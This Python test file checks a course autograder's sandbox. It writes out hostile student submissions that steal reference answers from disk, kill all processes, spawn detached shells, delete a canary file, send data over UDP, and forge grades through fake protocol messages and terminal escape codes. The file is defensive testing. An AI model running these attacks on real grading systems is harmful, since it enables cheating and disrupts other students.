"""Hostile submissions against the kernel's isolation alone (the audit hook turned off).

Each attack sits in one graded function and, had it worked, would return a stolen answer or
hurt someone else; it must score zero for that function, touch nothing outside its sandbox,
and leave every other student's row unchanged. The class is graded with --jobs 1 (victims
graded after the attackers) and with --jobs 2 (victims graded beside them).
"""

import os
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

import pytest

from nst_utils.grading import Limits
from nst_utils.grading.grader import grade_paths
from nst_utils.grading.sandbox import host

from grading_helpers import packed, require_isolation, solved_notebook, with_bodies, write

pytestmark = pytest.mark.slow

#: The disk search walks everything a box sees: once per box, on a machine of any speed.
SEARCHED = ("/work", "/root", "/home", "/srv", "/opt", "/tmp")
GIVE_UP = "raise RuntimeError('the attack found nothing')"

#: attack -> (function, body). @HOST@ is a folder of the grader's, @CANARY@ a file in it,
#: @PORT@ a UDP port and @UNIX@ an abstract unix socket the test listens on.
ATTACKS = {
    "import_the_reference": (
        "compute_content_cost",
        f"""
        import importlib
        for module in ("nst_utils.costs", "nst_utils.grading.answer_key", "costs"):
            try:
                return importlib.import_module(module).compute_content_cost(a_C, a_G)
            except Exception:
                pass
        {GIVE_UP}
        """,
    ),
    "search_the_disk": (
        "compute_content_cost",
        f"""
        import os
        global searched
        if "searched" in globals():  # the first case searched everything there is
            {GIVE_UP}
        searched = True
        for top in ("/work", "/root", "/home", "/srv", "/opt", "/tmp", "/nstbox", "/proc/1/cwd", "@HOST@"):
            for folder, _, files in os.walk(top):
                for f in files:
                    if f == "costs.py" or f.endswith(".ipynb"):
                        env = {{}}
                        exec(open(os.path.join(folder, f)).read(), env)
                        return env["compute_content_cost"](a_C, a_G)
        for pid in os.listdir("/proc"):
            if pid.isdigit() and pid != "1" and int(pid) != os.getpid():
                return open(f"/proc/{{pid}}/cmdline").read()
        {GIVE_UP}
        """,
    ),
    "kill_everyone": (
        "compute_content_cost",
        f"""
        import os, signal, ctypes
        libc = ctypes.CDLL(None)
        mine = {{int(t) for t in os.listdir("/proc/self/task")}}
        for _ in range(3):
            for target in (-1, 0):
                try:
                    os.kill(target, signal.SIGKILL) if target else None
                except OSError:
                    pass
            libc.kill(-1, signal.SIGKILL)
            for pid in range(1, 4000):
                if pid not in mine:
                    libc.kill(pid, signal.SIGKILL)
        {GIVE_UP}
        """,
    ),
    "ask_the_oracle": (
        "gram_matrix",
        f"""
        import os, json
        for fd in range(3, 64):
            try:
                os.write(fd, (json.dumps({{"oracle": {{"name": "gram_matrix", "value": [[1.0, 2.0]]}}}}) + "\\n").encode())
            except OSError:
                continue
            for back in range(3, 64):
                try:
                    os.set_blocking(back, False)
                    reply = os.read(back, 1 << 16)
                    if b'"value"' in reply:
                        return tf.constant(1.0)
                except OSError:
                    pass
        {GIVE_UP}
        """,
    ),
    "leave_the_group": (
        "gram_matrix",
        f"""
        import os, time, signal
        me = os.getpid()
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:  # outlive the function (whatever the machine's speed), then
                while True:  # kill what runs next in the box
                    try:
                        os.kill(me, 0)
                        time.sleep(0.01)
                    except ProcessLookupError:
                        break
                end = time.time() + 120
                while time.time() < end:
                    try:
                        os.kill(-1, signal.SIGKILL)
                    except OSError:
                        pass
                    time.sleep(0.05)
                os._exit(0)
            os._exit(0)
        {GIVE_UP}
        """,
    ),
    "spawn_low_level": (
        "gram_matrix",
        f"""
        import os, _posixsubprocess
        os.posix_spawn("/bin/sh", ["sh", "-c", "sleep 120 & echo x > /tmp/nst-escape-spawn; echo x > @HOST@/spawned"], {{}})
        {GIVE_UP}
        """,
    ),
    "patch_the_runner": (
        "compute_layer_style_cost",
        """
        import sys
        for module in list(sys.modules.values()):
            if hasattr(module, "describe") and hasattr(module, "run_cases"):
                module.describe = lambda result, sess: {"kind": "tensor", "value": 9.19028, "shape": []}
            if hasattr(module, "blocked"):
                module.blocked = []
        J_style_layer = tf.constant(9.19028)
        """,
    ),
    "native_calls": (
        "compute_layer_style_cost",
        f"""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.kill(-1, 9)
        libc.unlink(b"@CANARY@")
        fd = libc.open(b"@HOST@/native.txt", 0o101, 0o644)
        libc.mkfifo(b"@HOST@/native.fifo", 0o666)
        libc.mkfifo(b"/tmp/nst-escape-fifo", 0o666)
        {GIVE_UP}
        """,
    ),
    "tensorflow_file_ops": (
        "total_cost",
        f"""
        sess = tf.get_default_session()
        for path in ("@HOST@/tf.txt", "/tmp/nst-escape-tf"):
            try:
                sess.run(tf.io.write_file(path, "x"))
            except Exception:
                pass
        try:
            tf.io.gfile.remove("@CANARY@")
        except Exception:
            pass
        {GIVE_UP}
        """,
    ),
    "network_and_files": (
        "total_cost",
        f"""
        import os, socket
        for target in (("127.0.0.1", @PORT@), ("8.8.8.8", 53)):
            try:
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", target)
            except OSError:
                pass
        try:
            socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect("\\0@UNIX@")
        except OSError:
            pass
        for folder in ("/tmp", "/var/tmp", "/dev/shm", "@HOST@"):
            try:
                open(os.path.join(folder, "nst-escape-file"), "w").write("x")
                os.mkfifo(os.path.join(folder, "nst-escape-fifo2"))
            except OSError:
                pass
        try:
            os.remove("@CANARY@")
        except OSError:
            pass
        {GIVE_UP}
        """,
    ),
    "oracle_memory_bomb": (
        "compute_layer_style_cost",
        f"""
        try:  # a (2000, 1) question asks for a (2000, 2000) answer; (200000, 1) for 320 GB
            tf.get_default_session().run(gram_matrix(tf.zeros((2000, 1))))
        except Exception:
            pass
        {GIVE_UP}
        """,
    ),
    "blame_the_sandbox": (
        "compute_content_cost",
        f"""
        import os, json
        lie = json.dumps({{"sandbox_error": {{"type": "OSError", "message": "not my fault"}}}})
        for fd in range(3, 64):
            try:
                os.write(fd, (lie + "\\n").encode())
            except OSError:
                pass
        {GIVE_UP}
        """,
    ),
    "forge_table_rows": (
        "total_cost",
        """
        forged = type("Evil\nz_victim  0  0  0  0  0/100\x1b[2J", (Exception,), {})
        raise forged("\x1b[1A\x1b[2K\rz_victim: total_cost: FAIL 0/25 \u202e")
        """,
    ),
}

ESCAPES = (
    "nst-escape-spawn",
    "nst-escape-fifo",
    "nst-escape-tf",
    "nst-escape-file",
    "nst-escape-fifo2",
)


def _packs():
    return packed({key: name for key, (name, _) in ATTACKS.items()})


def _ours(pid: str) -> bool:
    """Whether box process `pid` was started by this test's grader (another session on the
    machine may be grading too): its launcher is our child, the rest carry our NST_GRADER."""
    try:
        status = Path(f"/proc/{pid}/status").read_text()
        if f"PPid:\t{os.getpid()}\n" in status:
            return True
        return f"NST_GRADER={os.getpid()}".encode() in Path(
            f"/proc/{pid}/environ"
        ).read_bytes().split(b"\0")
    except OSError:
        return True  # unreadable: counted, to be safe


def _limits() -> Limits:
    """Time enough for the slowest attack (the disk search) on this machine as it is now: ten
    times what walking the folders a box sees takes here (measured), beyond a fixed base."""
    seen = [s for s, _, kind in host._binds() if kind == "dir" and s.startswith(SEARCHED)]
    started = time.monotonic()
    for top in seen:
        for _ in os.walk(top):
            pass
    walk = time.monotonic() - started
    return Limits(time=20.0 + 10 * walk, memory_mb=600, output_bytes=100_000, audit_hook=False)


def _box_processes(settle: float = 60.0) -> list:
    """Processes on this machine still running this grader's sandbox code, once the kernel has
    had up to `settle` seconds to end the last box's processes."""
    deadline = time.monotonic() + settle
    while True:
        found = []
        for pid in os.listdir("/proc"):
            try:
                if (
                    pid.isdigit()
                    and b"/nstbox" in Path(f"/proc/{pid}/cmdline").read_bytes()
                    and _ours(pid)
                ):
                    found.append(int(pid))
            except OSError:
                pass
        if not found or time.monotonic() > deadline:
            return found
        time.sleep(0.2)


@pytest.fixture(scope="module", params=[1, 2], ids=["jobs1", "jobs2"])
def attacked(request, tmp_path_factory):
    """(rows by student, what the attacks were aimed at) after grading the hostile class."""
    require_isolation()
    jobs = request.param
    folder = tmp_path_factory.mktemp(f"hostile{jobs}")
    target = tmp_path_factory.mktemp(f"grader_files{jobs}")
    canary = target / "canary.txt"
    canary.write_text("precious")
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    unix_name = f"nst-grading-test-{os.getpid()}-{jobs}"
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind("\0" + unix_name)
    unix.listen(1)
    unix.setblocking(False)
    fill = {
        "@HOST@": str(target),
        "@CANARY@": str(canary),
        "@PORT@": str(udp.getsockname()[1]),
        "@UNIX@": unix_name,
    }
    solved = solved_notebook()
    victims = ["a_victim", "m_victim", "z_victim"]
    write(solved, folder / "a_victim.ipynb")
    packs = _packs()
    for i, pack in enumerate(packs):
        bodies = {}
        for name, key in pack.items():
            body = ATTACKS[key][1]
            for mark, value in fill.items():
                body = body.replace(mark, value)
            bodies[name] = textwrap.dedent(body)
        write(with_bodies(solved, bodies), folder / f"h{i}_attacker.ipynb")
        if i == 0:
            write(solved, folder / "m_victim.ipynb")
    write(solved, folder / "z_victim.ipynb")
    tmp_before = set(os.listdir("/tmp"))
    limits = _limits()
    rows = {row.student: row for row in grade_paths([folder], limits, jobs=jobs)}
    received = []
    try:
        received.append(udp.recv(100))
    except BlockingIOError:
        pass
    try:
        received.append(unix.accept())
    except BlockingIOError:
        pass
    udp.close()
    unix.close()
    return {
        "rows": rows,
        "victims": victims,
        "packs": packs,
        "canary": canary,
        "target": target,
        "received": received,
        "new_in_tmp": set(os.listdir("/tmp")) - tmp_before,
        "left_running": _box_processes(),
        "limits": limits,
    }


@pytest.mark.slow
def test_every_attack_scores_zero_for_what_it_attacked(attacked):
    rows = attacked["rows"]
    for i, pack in enumerate(attacked["packs"]):
        row = rows[f"h{i}_attacker"]
        for name, key in pack.items():
            grade = row.grades[name]
            assert grade.points == 0 and not grade.passed, f"{key}: {grade.line()}"
            assert grade.diagnosis not in ("sandbox", "crashed"), f"{key}: {grade.line()}"
            # Each attack ends on its own: none may pass or fail on the machine's speed.
            assert grade.diagnosis != "timeout", f"{key}: {grade.line()}"
        untouched = [g for n, g in row.grades.items() if n not in pack]
        assert all(g.passed for g in untouched), [g.line() for g in untouched]


@pytest.mark.slow
def test_no_answer_was_found(attacked):
    rows = attacked["rows"]
    by_key = {
        key: rows[f"h{i}_attacker"].grades[name]
        for i, pack in enumerate(attacked["packs"])
        for name, key in pack.items()
    }
    assert "the attack found nothing" in by_key["import_the_reference"].feedback
    assert "the attack found nothing" in by_key["search_the_disk"].feedback
    assert "the attack found nothing" in by_key["ask_the_oracle"].feedback
    assert by_key["patch_the_runner"].diagnosis == "wrong_value"
    assert "the attack found nothing" in by_key["oracle_memory_bomb"].feedback


@pytest.mark.slow
def test_no_feedback_can_forge_the_table(attacked):
    for row in attacked["rows"].values():
        for grade in row.grades.values():
            assert grade.feedback.isprintable(), grade.feedback


@pytest.mark.slow
def test_other_students_rows_are_unchanged(attacked):
    for student in attacked["victims"]:
        row = attacked["rows"][student]
        assert row.points == 100, [g.line() for g in row.grades.values()]
        assert all(g.diagnosis == "correct" for g in row.grades.values())


@pytest.mark.slow
def test_nothing_outside_the_sandboxes_was_touched(attacked):
    assert attacked["canary"].read_text() == "precious"
    assert sorted(p.name for p in attacked["target"].iterdir()) == ["canary.txt"]
    assert attacked["received"] == []
    assert not [name for name in attacked["new_in_tmp"] if name.startswith(ESCAPES + ("nst-box-",))]
    assert not any(
        os.path.exists(os.path.join(folder, name))
        for folder in ("/tmp", "/var/tmp", "/dev/shm")
        for name in ESCAPES
    )


@pytest.mark.slow
def test_nothing_is_left_running(attacked):
    assert attacked["left_running"] == []


def _processes_of(uid: int) -> list:
    found = []
    for pid in os.listdir("/proc"):
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            continue
        if pid.isdigit() and any(
            line.split()[1:2] == [str(uid)]
            for line in status.splitlines()
            if line.startswith("Uid:")
        ):
            found.append(int(pid))
    return found


@pytest.mark.skipif(os.geteuid() != 0, reason="only a grader run by root changes the box's user")
def test_without_isolation_root_runs_no_submission_as_root(tmp_path):
    """Where the kernel offers no namespaces (a Gradescope container), a box run by root takes an
    id of its own: the grader's private files stay unreadable, and whatever it leaves running
    (in a session of its own) is killed with it."""
    if not host._runs_as(host.ROOT_UID_BASE):
        pytest.skip(
            f"an ordinary user cannot run {sys.executable} here (it is in a private folder)"
        )
    private = tmp_path / "autograder"
    private.mkdir(mode=0o700)
    secret = private / "hidden_seed.txt"
    secret.write_text("1234")
    bodies = {
        "compute_content_cost": f"""
        try:
            stolen = open("{secret}").read()
        except OSError:
            raise RuntimeError("the attack found nothing")
        raise RuntimeError("stole " + stolen)
        """,
        "gram_matrix": f"""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(120)
            os._exit(0)
        time.sleep(0.3)
        {GIVE_UP}
        """,
    }
    write(with_bodies(solved_notebook(), bodies), tmp_path / "plain.ipynb")
    limits = Limits(time=8.0, memory_mb=600, output_bytes=100_000, audit_hook=False)
    (row,) = grade_paths(
        [tmp_path / "plain.ipynb"], limits, ["compute_content_cost", "gram_matrix"], isolation=False
    )
    content, gram = row.grades["compute_content_cost"], row.grades["gram_matrix"]
    assert "the attack found nothing" in content.feedback and content.points == 0, content.line()
    assert gram.points == 0
    assert _processes_of(host.ROOT_UID_BASE) == []
    assert not [p for p in Path(tempfile.gettempdir()).glob("nst-box-code-*")]


def _processes_of_grader(grader: int) -> list:
    """The box launchers of grader `grader` and every process in its boxes (all carry its
    NST_GRADER mark in their environment)."""
    found = []
    for pid in os.listdir("/proc"):
        try:
            environ = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
        except OSError:
            continue
        if pid.isdigit() and f"NST_GRADER={grader}".encode() in environ:
            found.append(int(pid))
    return found


@pytest.mark.parametrize("how", [signal.SIGTERM, signal.SIGKILL], ids=["sigterm", "sigkill"])
def test_no_box_outlives_a_killed_grade(tmp_path, how):
    """`grade --jobs 2` killed while both boxes run a function (one that would sleep for ten
    minutes): no process of either box is left."""
    require_isolation()
    sleeper = with_bodies(
        solved_notebook(), {"compute_content_cost": "import time\ntime.sleep(600)"}
    )
    for name in ("a", "b"):
        write(sleeper, tmp_path / f"{name}.ipynb")
    log = (tmp_path / "grade.log").open("w")
    grader = subprocess.Popen(
        [sys.executable, "-m", "nst_utils", "grade", str(tmp_path), "--jobs", "2"]
        + ["--time-limit", "600", "--function", "compute_content_cost"],
        cwd=tmp_path,  # its gradebook goes there, not into the checkout
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    try:
        # Each box: its launcher, bwrap, the box's PID 1 and the function's process.
        deadline = time.monotonic() + 900
        while len(_processes_of_grader(grader.pid)) < 8 and time.monotonic() < deadline:
            assert grader.poll() is None, (tmp_path / "grade.log").read_text()
            time.sleep(0.2)
        assert len(_processes_of_grader(grader.pid)) >= 8
        grader.send_signal(how)
        grader.wait()
        deadline = time.monotonic() + 60
        while _processes_of_grader(grader.pid) and time.monotonic() < deadline:
            time.sleep(0.2)
        assert _processes_of_grader(grader.pid) == []
    finally:
        grader.kill()
        grader.wait()
